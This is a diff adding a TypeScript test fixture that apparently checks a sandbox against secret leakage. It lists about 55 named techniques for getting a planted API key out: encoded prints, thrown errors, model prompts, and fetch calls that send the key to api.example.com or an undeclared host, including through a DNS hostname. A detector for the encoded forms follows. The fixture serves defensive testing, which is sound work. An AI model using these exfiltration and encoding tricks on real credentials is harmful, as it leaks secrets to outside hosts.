@@ -1,0 +1,143 @@
+/** The value that no way may show. Its signs look different in JSON, in URLs and in HTML. */
+export const secret = 'pA5s/w+rd="of&the<vault>-4711'
+export const host = 'api.example.com'
+
+/** The start of a script whose `value` holds the placeholder, and all that a host which was sent the secret answers. */
+export const echoedValue = `
+  const key = await settings.get('API_KEY')
+  const echo = await fetch('https://${host}/echo?key=' + encodeURIComponent(key), {
+    method: 'POST', headers: { 'x-key': key }, body: key
+  })
+  const value = [key, echo.headers.get('x-echo'), echo.url, await echo.text()].join(' ')
+`
+
+/** The start of a script that knows the secret by itself. */
+export const knownValue = `
+  const value = String.fromCharCode(${[...secret].map((sign) => sign.charCodeAt(0)).join(',')})
+`
+
+const helpers = `
+  const letters = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'
+  const codes = (text) => Array.from(text, (sign) => sign.charCodeAt(0) & 255)
+  const base64 = (text) => {
+    const bits = codes(text).map((code) => code.toString(2).padStart(8, '0')).join('')
+    const signs = (bits.match(/.{1,6}/g) ?? []).map((six) => letters[parseInt(six.padEnd(6, '0'), 2)]).join('')
+    return signs.padEnd(Math.ceil(signs.length / 4) * 4, '=')
+  }
+  const hex = (text) => codes(text).map((code) => code.toString(16).padStart(2, '0')).join('')
+  const percent = (text) => codes(text).map((code) => '%' + code.toString(16).padStart(2, '0')).join('')
+  const escaped = (text) => codes(text).map((code) => '\\\\u00' + code.toString(16).padStart(2, '0')).join('')
+  const reversed = (text) => [...text].reverse().join('')
+  const wide = (text) => [...text].join('\\0') + '\\0'
+  const pieces = (text, length) => text.match(new RegExp('[^]{1,' + length + '}', 'g')) ?? []
+`
+
+/** How a script tries to get `value` out, by name. `timeout`: in seconds. */
+export const ways: readonly (readonly [name: string, code: string, timeout?: number])[] = [
+  ['prints it', 'print(value)'],
+  ['prints it letter by letter', 'for (const letter of value) print(letter)'],
+  ['prints it in pieces', 'for (const piece of pieces(value, 5)) print(piece)'],
+  ['prints it among other text', 'print("x".repeat(3000) + value + "y".repeat(3000))'],
+  ['prints it to stderr', 'console.error(value)'],
+  [
+    'prints its letters to stdout and stderr in turns',
+    'Array.from(value, (letter, at) => (at % 2 ? console.log : console.error)(letter))',
+  ],
+  ['prints an object that holds it', 'console.log({ a: [{ b: value }] })'],
+  ['prints an object with it as a key', 'console.log({ [value]: 1 })'],
+  ['prints an error that holds it', 'console.error(new Error(value))'],
+  [
+    'prints it in two pieces around a pause',
+    'print(value.slice(0, 14)); await llm.complete("?"); print(value.slice(14))',
+  ],
+  ['prints it in Base64', 'print(base64(value))'],
+  ['prints it in Base64 after one letter', 'print(base64("a" + value))'],
+  ['prints it in Base64 after two letters', 'print(base64("ab" + value))'],
+  ['prints it in Base64, in pieces', 'for (const piece of pieces(base64(value), 7)) print(piece)'],
+  ['returns it in URL-safe Base64', 'set_result(base64(value).replaceAll("+", "-").replaceAll("/", "_"))'],
+  ['returns it in Base64 of JSON', 'set_result(base64(JSON.stringify({ value })))'],
+  ['prints it in hex', 'print(hex(value))'],
+  ['prints it in hex after a letter that is a digit, too', 'print("E" + hex(value))'],
+  ['returns it in upper-case hex, as a key', 'set_result({ [hex(value).toUpperCase()]: true })'],
+  ['returns it percent-encoded', 'set_result(encodeURIComponent(value))'],
+  ['prints it percent-encoded letter by letter', 'print(percent(value))'],
+  ['returns it with JSON escapes', 'set_result(escaped(value))'],
+  ['returns it as JSON in JSON', 'set_result(JSON.stringify(JSON.stringify({ value })))'],
+  ['prints it reversed', 'print(reversed(value))'],
+  ['returns it reversed, in Base64', 'set_result(base64(reversed(value)))'],
+  ['prints it as UTF-16', 'print(wide(value))'],
+  ['returns it as UTF-16 in Base64', 'set_result(base64(wide(value)))'],
+  ['returns it', 'set_result(value)'],
+  ['returns it as a key', 'set_result({ [value]: value })'],
+  [
+    'returns it deep in an object',
+    'set_result(Array.from({ length: 20 }).reduce((inner) => ({ inner: [inner] }), value))',
+  ],
+  ['throws it in an error', 'throw new Error(value)'],
+  ['throws it', 'throw value'],
+  ['throws an error with it as its name', 'throw Object.assign(new Error("x"), { name: value })'],
+  ['throws an error with it as its cause', 'throw new Error("x", { cause: new Error(value) })'],
+  ['throws an error with it as its stack', 'throw Object.assign(new Error("x"), { stack: value })'],
+  ['throws in a function with its name', 'const f = { [value]: () => { throw new Error("x") } }; f[value]()'],
+  ['rejects a promise that nothing waits for', 'Promise.reject(new Error(value)); await llm.complete("?")'],
+  ['asks for a setting of its name', 'await settings.get(value)'],
+  ['sends it in a path', `await fetch('https://${host}/' + encodeURIComponent(value))`],
+  ['sends it in a query', `set_result((await fetch('https://${host}/?q=' + base64(value))).url)`],
+  ['sends it in a header', `await fetch('https://${host}/', { headers: { 'x-note': value.slice(0, 200) } })`],
+  ['sends it as the name of a header', `await fetch('https://${host}/', { headers: { [value]: 'x' } })`],
+  ['sends it in a body', `set_result(await (await fetch('https://${host}/', { method: 'POST', body: value })).text())`],
+  ['sends it as a method', `await fetch('https://${host}/', { method: value })`],
+  ['sends it to an undeclared host', `await fetch('https://other.example/?q=' + encodeURIComponent(value))`],
+  ['asks for a host of its name', 'await fetch("https://" + hex(value).slice(0, 58) + ".example/")'],
+  ['asks for an address that is none', 'await fetch(value)'],
+  ['asks the model about it', 'set_result(await llm.complete("What of " + value + "?"))'],
+  ['asks the model about it in Base64', 'set_result(await llm.complete(base64(value)))'],
+  ['asks a model of its name', 'await llm.complete("?", value.slice(0, 60))'],
+  ['prints it and runs out of fuel', 'print(value); for (;;);'],
+  ['prints it in pieces and runs out of time', 'for (const piece of pieces(value, 9)) print(piece); for (;;);', 1],
+  ['prints it and runs out of memory', 'print(value); const all = []; for (;;) all.push("x".repeat(1e6) + all.length)'],
+  ['prints it until the log is full', 'for (let at = 0; at < 4000; at += 1) print(value)'],
+  ['returns it with too much else', 'set_result([value, "x".repeat(3e6)])'],
+]
+
+export const scriptOf = (start: string, code: string): string => `${start}${helpers}${code}`
+
+const base64Forms = (text: string) =>
+  [0, 1, 2].map((before) => {
+    const whole = Buffer.from('a'.repeat(before) + text, 'latin1').toString('base64')
+    // Without the signs that also depend on the neighbours.
+    return whole.slice(before === 0 ? 0 : 4, Math.floor(((before + text.length) * 8) / 6))
+  })
+
+/** The signs of each form that a text may not hold, however they are spaced. */
+const forms: readonly string[] = [
+  // A part of 12 letters is too much.
+  ...Array.from({ length: secret.length - 11 }, (_, at) => secret.slice(at, at + 12)),
+  [...secret].reverse().join(''),
+  encodeURIComponent(secret),
+  [...secret].map((sign) => `%${sign.charCodeAt(0).toString(16)}`).join(''),
+  [...secret].map((sign) => `\\u00${sign.charCodeAt(0).toString(16)}`).join(''),
+  JSON.stringify(secret).slice(1, -1),
+  Buffer.from(secret).toString('hex'),
+  ...[secret, [...secret].reverse().join(''), [...secret].map((sign) => `${sign}\0`).join('')]
+    .flatMap(base64Forms)
+    .flatMap((form) => [form, form.replaceAll('+', '-').replaceAll('/', '_')]),
+].map((form) => form.replaceAll('\0', '').toLowerCase())
+
+/** The form of the secret that a text holds, also across its line breaks. */
+export function heldForm(text: string): string | undefined {
+  const close = text.replaceAll(/[\n\0]/g, '').toLowerCase()
+  return forms.find((form) => close.includes(form))
+}
+
+/** All texts in a value, names of fields included. */
+export function textsIn(value: unknown): string[] {
+  if (typeof value === 'string') return [value]
+  if (Array.isArray(value)) return value.flatMap(textsIn)
+  if (typeof value === 'object' && value !== null) return Object.entries(value).flatMap(textsIn)
+  return []
+}
+
+/** The texts in a value that hold the secret in some form. */
+export const leaksIn = (value: unknown): string[] =>
+  textsIn(value).flatMap((text) => (heldForm(text) === undefined ? [] : [text.slice(0, 300)]))
